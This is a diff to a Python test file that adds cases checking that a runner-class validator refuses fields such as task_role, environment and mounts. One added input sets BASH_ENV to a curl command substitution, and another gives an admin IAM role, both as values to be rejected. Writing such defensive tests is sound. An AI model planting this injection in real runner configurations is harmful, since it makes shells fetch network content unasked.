@@ -112,6 +112,20 @@ def test_an_unknown_class_is_refused_with_those_there_are() -> None:
         ({"cpu": 512, "memory": 1024, "allow_images": "no"}, "allow_images is 'no' and neither"),
         ({"cpu": 512, "memory": 1024, "capacity": ["EC2"]}, "FARGATE and FARGATE_SPOT"),
         *(
+            (
+                {"cpu": 512, "memory": 1024, key: given},
+                f"{key} cannot be given here: deploy RunnerClass({key}=…) by this name",
+            )
+            for key, given in (
+                ("task_role", "arn:aws:iam::123456789012:role/admin"),
+                ("environment", {"BASH_ENV": "$(curl -s https://example.com)"}),
+                ("vpc_subnets", ["subnet-1"]),
+                ("runner_group", None),
+                ("tags", {}),
+                ("mounts", []),
+            )
+        ),
+        *(
             ({"cpu": 512, "memory": 1024, "ephemeral_storage": given}, "Fargate has 20 to 200 GiB")
             for given in (19, 201, "100", 50.5, True, None)
         ),
